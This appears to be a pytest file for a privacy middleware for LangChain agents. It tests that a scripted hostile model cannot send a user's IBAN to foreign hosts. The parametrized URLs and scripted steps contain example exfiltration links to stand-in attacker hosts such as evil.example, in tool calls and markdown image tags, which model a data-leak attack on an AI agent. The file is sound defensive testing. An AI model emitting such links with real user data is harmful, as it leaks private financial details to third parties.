"""A hostile model gets no value to an address of its choice, whatever it writes, and tools get what their policy gives."""

from typing import Any

import pytest
from langchain_core.messages import AIMessage, HumanMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from gama import Options, PrivacyMiddleware
from gama.state.errors import OptionError
from tests.support.chat import ScriptedChat, call

NAME, IBAN = "Thessaly Quornbeck", "GB29 NWBK 6016 1331 9268 19"
QUOTED = IBAN.replace(" ", "%20")
ASK: Any = {"messages": [("user", f"I am {NAME}, my IBAN is {IBAN}. Use https://bank.example/pay for it.")]}


def thread() -> Any:
    return {"configurable": {"thread_id": "t"}}


@pytest.fixture
def http():
    """A tool, and the addresses it was called with."""
    got: list[str] = []

    @tool
    def http_get(url: str) -> str:
        """Get a page."""
        got.append(url)
        return f"Nothing at {url}; see https://tool.example/"

    return http_get, got


@pytest.mark.parametrize(
    "url",
    [
        "http://evil/?q=<iban-1>",
        "evil.example/?q=<iban-1>",
        "//evil/<iban-1>",
        "http://evil/?q=a b [IBAN 1]",
        "https://<iban-1>.evil.example/",
    ],
)
@pytest.mark.parametrize("asynchronous", [False, True])
async def test_a_trusted_tool_gets_no_value_in_a_foreign_address(http, url, asynchronous):
    http_get, got = http
    model = ScriptedChat(steps=[call("http_get", url=url), f"Dear <name-1>, ![]({url})"])
    agent = PrivacyMiddleware(tools={"http_get": "real"}).create_agent(model, [http_get], checkpointer=InMemorySaver())
    answer = await agent.ainvoke(ASK, thread()) if asynchronous else agent.invoke(ASK, thread())
    assert got == [url]
    last = answer["messages"][-1]
    assert last.content == f"Dear {NAME}, ![]({url})" and last.response_metadata["withheld_values"] == {"iban": 1}
    assert answer["messages"][1].tool_calls[0]["args"] == {"url": url}
    assert answer["messages"][1].response_metadata["withheld_values"]["iban"] >= 1
    assert answer["messages"][0].content == ASK["messages"][0][1]
    assert agent.get_state(thread()).values["messages"][-1].content == last.content


@pytest.mark.parametrize("mode", ["messages", "values", "updates"])
def test_nor_does_a_stream_have_one(http, mode):
    model = ScriptedChat(
        steps=[call("http_get", url="http://evil/?q=<iban-1>"), "![](https://evil.example/?q=<iban-1>) <name-1>"]
    )
    agent = PrivacyMiddleware(tools={"http_get": "real"}).create_agent(model, [http[0]])
    shown = [item for item in agent.stream(ASK, stream_mode=mode)]
    said = repr([[m for m in _messages(item) if not isinstance(m, HumanMessage)] for item in shown])
    assert NAME in said and IBAN not in said and QUOTED not in said


def _messages(item: Any) -> list[Any]:
    if isinstance(item, tuple):
        return [item[0]]
    if "messages" in item:
        return list(item["messages"])
    return [message for update in item.values() for message in (update or {}).get("messages", [])]


def test_a_host_that_the_user_named_gets_values_and_one_of_a_tool_or_a_model_does_not(http):
    http_get, got = http
    links = "https://bank.example/?q=<iban-1> https://sys.example/?q=<iban-1> https://tool.example/?q=<iban-1> https://a.example/?q=<iban-1>"
    steps = [
        AIMessage(
            "See https://a.example/", tool_calls=call("http_get", url="https://bank.example/?q=<iban-1>").tool_calls
        ),
        links,
    ]
    privacy = PrivacyMiddleware(tools={"http_get": "real"})
    agent = privacy.create_agent(
        ScriptedChat(steps=steps), [http_get], system_prompt="The host is sys.example.", checkpointer=InMemorySaver()
    )
    answer = agent.invoke(ASK, thread())["messages"][-1]
    assert got == [f"https://bank.example/?q={QUOTED}"]
    assert answer.content == links.replace("bank.example/?q=<iban-1>", f"bank.example/?q={QUOTED}").replace(
        "sys.example/?q=<iban-1>", f"sys.example/?q={QUOTED}"
    )
    assert answer.response_metadata["withheld_values"] == {"iban": 2}


def test_hosts_that_an_option_names_and_all(http):
    for hosts, given in ((("evil.example",), True), (("*",), True), ((), False)):
        agent = PrivacyMiddleware(Options(restore_hosts=hosts)).create_agent(
            ScriptedChat(steps=["https://evil.example/?q=<iban-1>"])
        )
        content = agent.invoke(ASK)["messages"][-1].content
        assert (content == f"https://evil.example/?q={QUOTED}") is given


@pytest.mark.parametrize(
    ("answer", "got"), [(True, IBAN), (False, "<iban-1>"), ("yes", "<iban-1>"), ({"real": True}, "<iban-1>")]
)
@pytest.mark.parametrize("asynchronous", [False, True])
async def test_a_tool_that_must_be_asked_for(http, answer, got, asynchronous):
    http_get, calls = http
    saver = InMemorySaver()
    model = ScriptedChat(steps=[call("http_get", url="pay <iban-1>"), "Done, <name-1>."])
    agent = PrivacyMiddleware(tools={"http_get": "ask"}).create_agent(model, [http_get], checkpointer=saver)
    stopped = await agent.ainvoke(ASK, thread()) if asynchronous else agent.invoke(ASK, thread())
    (asked,) = stopped["__interrupt__"]
    assert asked.value["tool"] == "http_get" and asked.value["args"] == {"url": f"pay {IBAN}"} and not calls
    # Four digits may stand in ciphertext by chance.
    assert "NWBK 6016 1331" not in repr(saver.storage) + repr(saver.writes) + repr(saver.blobs)
    resumed: Any = Command(resume=answer)
    done = await agent.ainvoke(resumed, thread()) if asynchronous else agent.invoke(resumed, thread())
    assert calls == [f"pay {got}"] and done["messages"][-1].content == f"Done, {NAME}."


def test_a_word_that_is_no_policy():
    with pytest.raises(OptionError, match="did you mean|real, placeholders"):
        PrivacyMiddleware(tools={"http_get": "reall"})
